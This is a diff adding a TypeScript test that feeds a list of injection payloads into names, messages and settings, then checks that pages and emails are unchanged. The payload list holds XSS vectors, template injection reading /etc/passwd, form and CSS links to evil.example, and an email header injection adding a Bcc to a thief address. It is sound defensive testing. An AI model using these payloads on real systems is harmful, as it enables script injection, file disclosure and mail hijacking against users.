@@ -1,0 +1,82 @@
+import { type CheerioAPI, load } from 'cheerio';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { ReceivedMail } from '../support/smtp.ts';
+import { beginShow, endShow, everythingWith, type Shown } from './exposure.ts';
+
+const payloads = [
+  '<script>alert(1)</script>',
+  '"><svg onload=alert(1)>',
+  `' onmouseover='alert(1)' x='`,
+  '" autofocus onfocus="alert(1)" x="',
+  '</title></style></textarea></option></blockquote><iframe src=javascript:alert(1)>',
+  '<!--><script>alert(1)</script-->',
+  '<a href="//evil.example">Click</a>',
+  'javascript:alert(1)',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<%= 7*7 %><%- include("/etc/passwd") %>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '}</style><style>*{background:url(//evil.example)}',
+  'x\u2028</p>\u2029<form action="//evil.example"><input name="x">',
+  '<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>',
+  'x\r\nBcc: thief@evil.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
+];
+
+// Two at a time, for speed: the first that gets through is seen, whatever follows it.
+const texts = payloads.flatMap((payload, index) =>
+  index % 2 === 0 ? [`${payload} ${payloads[index + 1] ?? ''}`] : [],
+);
+
+let usual: Shown;
+
+beforeAll(async () => {
+  await beginShow();
+  usual = await everythingWith('plain words');
+});
+afterAll(endShow);
+
+/** All elements with the names of their attributes, in order. */
+function skeleton($: CheerioAPI): string[] {
+  return $('*')
+    .toArray()
+    .map((element) => `${$(element).prop('tagName')} ${Object.keys($(element).attr() ?? {}).sort()}`);
+}
+
+function headerNames({ raw }: ReceivedMail): string[] {
+  const [head = ''] = raw.split('\r\n\r\n');
+  return head
+    .split('\r\n')
+    .filter((line) => !/^\s/.test(line))
+    .map((line) => line.split(':')[0] ?? '')
+    .sort();
+}
+
+describe.each(texts)('with %j as every name, message, reason and setting', (text) => {
+  let shown: Shown;
+  beforeAll(async () => {
+    shown = await everythingWith(text);
+  });
+
+  it('no page gains an element, an attribute or an address to run', () => {
+    for (const [name, { $, status }] of Object.entries(shown.pages)) {
+      expect(status, name).toBe(usual.pages[name]?.status);
+      expect(skeleton($), name).toEqual(skeleton(usual.pages[name]?.$ ?? load('')));
+      expect($('[href^="javascript:" i], [src^="javascript:" i], [action^="http"]').length, name).toBe(0);
+    }
+    const [first = ''] = text.split('\r');
+    for (const name of ['invitation', 'the link to hand on', 'revoked'])
+      expect(shown.pages[name]?.$('main').text()).toContain(first);
+  });
+
+  it('no mail gains an element, a header or a recipient', () => {
+    expect(Object.keys(shown.mails)).toEqual(['invitation', 'code', 'welcome', 'reset']);
+    for (const [kind, received] of Object.entries(shown.mails)) {
+      const plain = usual.mails[kind];
+      expect(skeleton(load(received.mail.html ?? '')), kind).toEqual(skeleton(load(plain?.mail.html ?? '')));
+      expect(plain && headerNames(received)).toEqual(plain && headerNames(plain));
+      expect(received.to).toHaveLength(1);
+      expect(received.mail.bcc).toBeUndefined();
+      expect(received.mail.attachments).toEqual([]);
+    }
+    expect(shown.caught.map(({ $ }) => skeleton($))).toEqual(usual.caught.map(({ $ }) => skeleton($)));
+  });
+});
